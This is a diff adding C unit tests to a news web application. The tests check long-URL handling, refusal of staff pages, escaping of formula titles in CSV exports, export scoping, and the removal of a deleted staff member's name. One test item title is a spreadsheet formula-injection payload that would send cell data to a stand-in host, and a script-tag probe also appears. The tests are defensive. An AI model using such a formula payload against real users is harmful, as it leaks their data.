@@ -1073,6 +1073,80 @@ test_limits(void **state)
 	LACKS(r, "<script>");
 	snprintf(path, sizeof path, "/api/v1/news/%s", "na-x%3Cscript%3E");
 	problem(as(NULL, "GET", path, NULL), 404, NULL);
+	/* a very long address finds nothing and breaks nothing */
+	{
+		char *p = malloc(6000);
+
+		assert_non_null(p);
+		memcpy(p, "/news/", 6);
+		memset(p + 6, 'a', 5000);
+		p[5006] = '\0';
+		r = ts_get(visitor, p);
+		assert_true(r->status == 404 || r->status == 414 || r->status == 400);
+		free(p);
+	}
+	/* staff's pages are refused alike whether the item exists or not */
+	STATUS(ts_get(web(&member_p), "/staff/news/1"), 403);
+	STATUS(ts_get(web(&member_p), "/staff/news/999999"), 403);
+	problem(as(&focal_p, "GET", "/api/v1/staff/news/1", NULL), 403, NULL);
+	problem(as(&focal_p, "GET", "/api/v1/staff/news/999999", NULL), 403, NULL);
+}
+
+/* Staff's CSV neutralizes a title that a spreadsheet would run; a staff
+ * member who deletes their account is named nowhere by what they wrote
+ * (page, JSON, feed), and nobody's export lists another's items. */
+static void
+test_csv_and_leaving(void **state)
+{
+	static struct person leaver = { "na.leaver@na-news.test", "Nestor Leaverwright", "staff",
+		"", NULL, 0, NULL };
+	char slug[100], path[200];
+	const struct ts_res *r;
+	json_t *j;
+
+	(void)state;
+	(void)item_made(json_pack("{s:s,s:s,s:s,s:s}", "title",
+	    "=HYPERLINK(\"https://evil.example/?\"&A1,\"NA click\")", "kind", "news",
+	    "visibility", "public", "slug", "na-formula"), NULL, 0);
+	r = ts_get(web(&staff_p), "/staff/news.csv?status=draft");
+	STATUS(r, 200);
+	HAS(r, "\"'=HYPERLINK(");
+	LACKS(r, ",=HYPERLINK(");
+	/* a leaver's byline */
+	r = as(&leaver, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
+	    "NA Written by one who leaves", "kind", "news", "visibility", "public", "summary",
+	    "NA leaver summary", "publish", 1));
+	STATUS(r, 201);
+	j = ts_jbody(r);
+	snprintf(slug, sizeof slug, "%s", jstr(j, "slug"));
+	json_decref(j);
+	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
+	r = as(NULL, "GET", path, NULL);
+	HAS(r, "Leaverwright");
+	/* the export: one's own items only */
+	r = as(&staff_p, "GET", "/api/v1/me/export", NULL);
+	STATUS(r, 200);
+	LACKS(r, "NA Written by one who leaves");
+	r = as(&member_p, "GET", "/api/v1/me/export", NULL);
+	STATUS(r, 200);
+	LACKS(r, "na-formula");
+	r = as(&leaver, "GET", "/api/v1/me/export", NULL);
+	STATUS(r, 200);
+	HAS(r, "NA Written by one who leaves");
+	LACKS(r, "na-formula");
+	STATUS(as(&leaver, "DELETE", "/api/v1/me", json_pack("{s:s}", "password", PW)), 204);
+	r = as(NULL, "GET", path, NULL);
+	STATUS(r, 200);
+	LACKS(r, "Leaverwright");
+	snprintf(path, sizeof path, "/news/%s", slug);
+	r = ts_get(visitor, path);
+	STATUS(r, 200);
+	LACKS(r, "Leaverwright");
+	r = ts_get(visitor, "/news.atom");
+	LACKS(r, "Leaverwright");
+	r = ts_get(web(&staff_p), "/staff/news.csv");
+	LACKS(r, "Leaverwright");
+	ts_browser_free(leaver.web);
 }
 
 static void
@@ -1134,6 +1208,7 @@ main(void)
 		cmocka_unit_test(test_only_staff_write),
 		cmocka_unit_test(test_methods),
 		cmocka_unit_test(test_limits),
+		cmocka_unit_test(test_csv_and_leaving),
 		cmocka_unit_test(test_server_stops_cleanly),
 	};
 
